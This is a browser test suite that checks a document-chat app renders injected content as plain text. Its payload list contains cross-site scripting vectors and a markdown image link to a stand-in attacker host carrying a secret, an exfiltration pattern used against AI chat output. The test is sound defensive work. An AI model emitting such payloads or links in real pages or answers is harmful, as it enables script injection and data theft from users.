"""Whoever writes a document, a file name or an answer: nothing of it runs in the reader's browser."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.browser.pages import Chat, Upload
from tests.fake_engine import FakeEngine
from tests.stack import Stack

MARK = "window.__ran = 1"
PAYLOADS = (
    f"<img src=x onerror='{MARK}'>",
    f"<script>{MARK}</script>",
    f"<svg/onload='{MARK}'>",
    f"[press here](javascript:{MARK})",
    "![logo](http://evil.example/pixel.png?secret=1)",
    "[our site](http://evil.example/)",
    f"`</code><script>{MARK}</script>`",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    "https://evil.example/plain",
)
NAME = f"Zyxwort <img src=x onerror='{MARK}'>.md"
TEXT = "# Zyxwort <b onmouseover='window.__ran=1'>guide</b>\n\nThe zyxwort valve is opened by hand " + " ".join(
    PAYLOADS
)


@pytest.fixture(scope="module")
def poisoned(stack: Stack) -> Iterator[str]:
    with stack.client() as client:
        made = client.post("/api/v1/collections", json={"name": f"Poison {PAYLOADS[0]}"}).json()
        yield made["id"]
        client.delete(f"/api/v1/collections/{made['id']}")


def nothing_ran(page: Page) -> None:
    assert page.evaluate("window.__ran") is None
    assert page.locator(".thread :is(img, script, iframe, [onerror], [onload], [onmouseover])").count() == 0
    assert page.locator(".answer-text a").count() == 0


def ask(page: Page, question: str) -> Chat:
    chat = Chat(page).open()
    page.locator("#picker summary").click()
    page.locator("#picker label").filter(has_text="Poison").click()
    page.keyboard.press("Escape")
    chat.ask(question)
    return chat


def test_payloads_in_file_name_title_and_text_stay_text(page: Page, poisoned: str) -> None:
    upload = Upload(page).open(poisoned)
    upload.choose((NAME, TEXT.encode()))
    upload.wait()
    expect(upload.rows.first).to_contain_text("Ready")
    assert page.evaluate("window.__ran") is None

    chat = ask(page, f"How is the zyxwort valve opened? {PAYLOADS[0]}")
    nothing_ran(page)
    chip = page.locator("button.footnote").first
    chip.hover()
    chip.click()
    expect(chat.panel.locator("mark")).to_be_visible()
    page.reload()
    nothing_ran(page)
    for place in (f"/admin/documents/document/?collection__id__exact={poisoned}", "/admin/documents/collection/"):
        page.goto(place)
        assert page.evaluate("window.__ran") is None


def test_payloads_in_what_a_model_writes_stay_text(page: Page, poisoned: str, engine: FakeEngine) -> None:
    engine.text = [f"{payload} [1]\n\n" for payload in PAYLOADS]
    chat = ask(page, "How is the zyxwort valve opened?")
    nothing_ran(page)
    told = chat.text(chat.answers.last)
    assert "press here" in told
    assert "<script>" in told
    page.reload()
    nothing_ran(page)
